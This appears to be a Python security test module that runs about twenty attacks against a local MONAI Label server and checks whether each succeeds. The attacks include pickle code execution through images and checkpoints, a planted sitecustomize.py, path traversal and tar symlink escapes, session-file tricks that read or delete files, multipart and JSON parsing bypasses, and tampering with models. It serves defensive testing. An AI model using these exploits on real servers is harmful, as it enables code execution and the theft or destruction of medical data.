"""What anybody can do to a plain MONAI Label server with a few requests; each tells whether it succeeded.

An attack of several steps goes on where one is refused, as if somebody else had found a way to do that step.
"""

import io
import json
import os
import pickle
import shutil
import tarfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import numpy as np
import requests

from tests.loop.attacked import SECRET, Site
from tests.loop.running_server import PATIENCE_S

_RUN = {"max_epochs": 1, "val_split": 0, "dataset": "Dataset", "dataloader": "DataLoader", "multi_gpu": False}


def code_by_bundle_path(site: Site) -> bool:
    """Python runs what an image named sitecustomize holds, once a job's path leads to the images."""
    proof = site.outside / "code-by-bundle-path"
    program = f"import os\nopen({str(proof)!r}, 'w').close()\nos._exit(0)\n".encode()
    site.offer("image", "sitecustomize.py", program, image="sitecustomize")
    body = {"bundle_path": str(site.studies)}
    jobs = {f"/scoring/{site.scoring}": body, f"/train/{site.model}": body, f"/batch/infer/{site.model}": body}
    jobs |= {"/scoring/": {site.scoring: body}, "/train/": {site.model: body}}
    with _planted(site.studies / "sitecustomize.py", program):
        for path, sent in jobs.items():
            if site.ask("POST", path, json=sent).status_code == 200:
                return _until(proof.exists)
    return False


def code_in_an_image(site: Site) -> bool:
    """NumPy's files of objects are pickles, which MONAI's reader unpacks."""
    proof = site.outside / "code-in-an-image"
    for name, content in (("x.npy", _pickled_array(proof)), ("x.nii.gz", _pickled_array(proof))):
        files = {"file": (name, content)}
        site.ask("POST", f"/infer/{site.model}", params={"image": ""}, data={"params": "{}"}, files=files)
    return proof.exists()


def code_in_a_checkpoint(site: Site) -> bool:
    """A model's file that is a pickle."""
    proof = site.outside / "code-in-a-checkpoint"
    with _same_models(site):
        site.ask("PUT", f"/model/{site.model}", files={"file": ("x.pt", pickle.dumps(_Runs(proof)))})
        site.infer(image="case_60")
    return proof.exists()


def file_by_image_id(site: Site) -> bool:
    """An image's id that leaves the folder."""
    site.offer("image", "x.nii.gz", _image(site), image="../outside/by-image")
    return _gone(site.outside / "by-image.nii.gz")


def file_by_tag(site: Site) -> bool:
    """A label's tag that leaves the folder."""
    site.offer("label", "x.nii.gz", _label(site), image="case_60", tag="../../outside/by-tag")
    return _gone(site.outside / "by-tag" / "case_60.nii.gz")


def file_by_label_tag(site: Site) -> bool:
    """The same for a label that the model makes."""
    site.infer({"save_label": True, "label_tag": "../../outside/by-label-tag"}, image="case_60")
    return _gone(site.outside / "by-label-tag" / "case_60.nii.gz")


def read_by_planted_session(site: Site) -> bool:
    """What describes a session is a file beside its image, which a label of that name may be, too."""
    session = site.sessions / "planted"
    described = _session(session, site.outside / "secret.txt")
    site.offer("image", "x.nii.gz", b"anything", image="meta")
    tag = os.path.relpath(session, site.studies / "labels")
    site.offer("label", "x.info", described, image="meta", tag=tag)
    with _planted(session / "meta.info", described):
        return SECRET in site.ask("GET", "/session/planted?image=true").text


def infer_by_planted_session(site: Site) -> bool:
    """Of several files sent as one session, one may describe another session."""
    described = _session(site.sessions, site.outside / "secret.nii.gz")
    files = [("files", ("meta.info", described)), ("files", ("x.nii.gz", _image(site)))]
    answer = site.ask("PUT", "/session/", files=files)
    if answer.status_code == 200:
        folder = Path(answer.json()["session_info"]["image"]).name
        if site.infer(session_id=f"{answer.json()['session_id']}/{folder}"):
            return True
    with _planted(site.sessions / "one" / "two" / "meta.info", described):
        return site.infer(session_id="one/two") or site.infer(session_id=str(site.sessions / "one" / "two"))


def delete_by_session_id(site: Site) -> bool:
    """A folder that looks like a session whose image is missing is removed, wherever it is."""
    victim = site.studies / "labels" / "victim"
    victim.mkdir(exist_ok=True)
    (victim / "work").write_text("of many hours")
    described = _session(victim, Path("/nowhere"))
    site.offer("image", "x.nii.gz", b"anything", image="meta")
    site.offer("label", "x.info", described, image="meta", tag="victim")
    with _planted(victim / "meta.info", described):
        session_id = os.path.relpath(victim, site.sessions)
        site.infer(session_id=session_id, image="case_60")
        site.raw("DELETE", f"/session/{session_id.replace('/', '%2f')}")
    succeeded = not (victim / "work").exists()
    if not succeeded:
        (victim / "work").unlink()
        victim.rmdir()
    return succeeded


def archive_that_leaves_its_folder(site: Site) -> bool:
    """Members of an archive with a path, and one behind a link that leads away."""
    image = _image(site)
    to_root = "../" * len(site.temporary.parts)
    by_path, by_root, by_link = (site.outside / name for name in ("by-path", "by-root", "by-link"))
    for archive in (
        archive_of((f"{to_root}{str(by_path)[1:]}", image)),
        archive_of((str(by_root), image)),
        archive_of(("link/by-link", image), link=("link", str(site.outside))),
    ):
        site.ask("PUT", "/session/?uncompress=true", files=[("files", ("x.tar", archive))])
    return any([_gone(by_path), _gone(by_root), _gone(by_link)])


def infer_on_a_path(site: Site) -> bool:
    """An image's id that is the path of any image on the server."""
    return site.infer(image=str(site.outside / "secret.nii.gz"))


def infer_by_params(site: Site) -> bool:
    """The same in the form, which overrides the image's id; in every way in which a form may be written."""
    params = json.dumps({"image": str(site.outside / "secret.nii.gz")})
    twice = [("params", (None, "{}")), ("params", (None, params))]
    answers = [
        _sent_to_infer(site, data={"params": params}),
        _sent_to_infer(site, files=[("params", (None, params))]),
        _sent_to_infer(site, files=twice),
        _sent_to_infer(site, files=twice[::-1]),
        _sent_to_infer(site, data=[("params", "{}"), ("params", params)]),
        _sent_to_infer(site, data={"params": params[:-1] + ', "image": "case_60"}'}),
        _sent_to_infer(site, data={"params": '{"image": "case_60", ' + params[1:]}),
    ]
    for head in (
        'form-data; name="params"; name="x"',
        'form-data; name="x"; name="params"',
        "form-data; name*=utf-8''params",
        'FORM-DATA; NAME="params"',
        'form-data; name="par\\ams"',
        'form-data; name=params; filename=""',
    ):
        part = f"--edge\r\nContent-Disposition: {head}\r\n\r\n{params}\r\n--edge--\r\n"
        for kind in ("multipart/form-data; boundary=edge", 'Multipart/Form-Data; BOUNDARY="edge"; boundary=other'):
            answers.append(_sent_to_infer(site, data=part.encode(), headers={"Content-Type": kind}, image=""))
    return any(answers)


def _sent_to_infer(site: Site, image: str = "case_60", **options: Any) -> bool:
    """Whether the model answers; without an image's id only for one that the form names."""
    return site.ask("POST", f"/infer/{site.model}", params={"image": image}, **options).status_code == 200


def train_into_a_path(site: Site) -> bool:
    """A training's name that leaves the folder of models; in every way in which JSON may be sent."""
    body = json.dumps({**_RUN, "name": "../../../outside/by-train"})
    for content, kind in (
        (body.encode(), "application/json"),
        (body.encode(), "text/plain"),
        (body.encode(), "application/vnd.any+json"),
        (body.encode("utf-16"), "application/json"),
        (body.encode("utf-8-sig"), "application/json; charset=utf-16"),
        (body.replace("{", '{"name": "plain", ', 1).encode(), "application/json"),
        (body.replace('"name"', '"n\\u0061me"').encode(), "application/json"),
    ):
        headers = {"Content-Type": kind}
        site.ask("POST", f"/train/{site.model}?run_sync=true", data=content, headers=headers)
        if (site.outside / "by-train").exists():
            return True
    return False


def train_on_paths(site: Site) -> bool:
    """Lists of images to train with that are files of the server, on images that are as well."""
    listed = str(site.outside / "cases.json")
    body = {**_RUN, "name": "on-paths", "train_ds": listed, "val_ds": listed}
    return site.ask("POST", f"/train/{site.model}?run_sync=true", json=body).status_code == 200


def model_taken(site: Site) -> bool:
    """The model in force for everybody."""
    answer = site.ask("GET", f"/model/{site.model}")
    return answer.status_code == 200 and len(answer.content) > 100


def model_replaced(site: Site) -> bool:
    """Another model in force than the one that was judged."""
    weights = next(iter(sorted((site.root / "app").rglob("*.pt")))).read_bytes()
    return site.ask("PUT", f"/model/{site.model}", files={"file": ("x.pt", weights)}).status_code == 200


def model_removed(site: Site) -> bool:
    """No model in force."""
    with _same_models(site):
        return site.ask("DELETE", f"/model/{site.model}").status_code == 200


def log_taken(site: Site) -> bool:
    """All that the server noted of images, people and files."""
    answer = site.ask("GET", "/logs/?lines=0")
    return answer.status_code == 200 and "case_60" in answer.text


def stack_trace_told(site: Site) -> bool:
    """Where in which file of the server a request or a job failed."""
    told = [site.ask("POST", "/activelearning/nonsense").text]
    if site.ask("POST", "/scoring/nonsense", json={}).status_code == 200:
        _until(lambda: site.ask("GET", "/scoring/").json()["status"] not in {"SUBMITTED", "RUNNING"})
    told += [site.ask("GET", path).text for path in ("/scoring/?all=true", "/train/?all=true", "/logs/?html=false")]
    return any("Traceback" in text or 'File \\"' in text for text in told)


def disk_filled(site: Site) -> bool:
    """Each request leaves all images once more."""
    before = set(site.temporary.iterdir())
    site.ask("GET", "/datastore/dataset")
    left = set(site.temporary.iterdir()) - before
    for path in left:
        path.unlink()
    return bool(left)


class _Runs:
    """Leaves a file where it is unpacked."""

    def __init__(self, proof: Path) -> None:
        self._proof = str(proof)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return open, (self._proof, "w")


def archive_of(*members: tuple[str, bytes], link: tuple[str, str] | None = None) -> bytes:
    """A tar file of members by name, and of one before them that is a link with its target."""
    sent = io.BytesIO()
    with tarfile.open(fileobj=sent, mode="w") as archive:
        if link:
            leading = tarfile.TarInfo(link[0])
            leading.type, leading.linkname = tarfile.SYMTYPE, link[1]
            archive.addfile(leading)
        for name, content in members:
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return sent.getvalue()


def _pickled_array(proof: Path) -> bytes:
    content = io.BytesIO()
    np.save(content, np.array([_Runs(proof)], dtype=object), allow_pickle=True)
    return content.getvalue()


def _session(folder: Path, image: Path) -> bytes:
    now = int(time.time())
    info = {"name": folder.name, "path": str(folder), "image": str(image), "meta": {}, "expiry": 3600}
    return json.dumps({**info, "create_ts": now, "last_access_ts": now}).encode()


def _image(site: Site) -> bytes:
    return (site.outside / "secret.nii.gz").read_bytes()


def _label(site: Site) -> bytes:
    return (site.studies / "labels" / "final" / "case_60.nii.gz").read_bytes()


def server_stuck(site: Site, patience_s: float = PATIENCE_S) -> bool:
    """The app is loaded anew and then asks its own server something, which waits for that answer itself."""
    site.ask("POST", "/reload")
    with suppress(requests.Timeout):
        site.ask("POST", "/activelearning/random", timeout=patience_s)
    try:
        site.ask("GET", "/info/", timeout=patience_s)
    except requests.Timeout:
        return True
    return False


def _until(condition: Callable[[], bool]) -> bool:
    end = time.monotonic() + PATIENCE_S
    while not condition() and time.monotonic() < end:
        time.sleep(0.2)
    return condition()


def _gone(path: Path) -> bool:
    """Whether a file was there; it no longer is."""
    found = path.exists()
    path.unlink(missing_ok=True)
    return found


@contextmanager
def _planted(path: Path, content: bytes) -> Iterator[None]:
    """A file that is there in any case; what was missing of it is removed afterwards."""
    if path.exists():
        yield
        return
    made = [folder for folder in path.parents if not folder.exists()]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    yield
    path.unlink(missing_ok=True)
    for folder in made:
        shutil.rmtree(folder, ignore_errors=True)


@contextmanager
def _same_models(site: Site) -> Iterator[None]:
    """The models of the attacks that follow are those of before."""
    files = {path: path.read_bytes() for path in (site.root / "app").rglob("*.pt")}
    yield
    for path, content in files.items():
        if not path.exists() or path.read_bytes() != content:
            path.write_bytes(content)
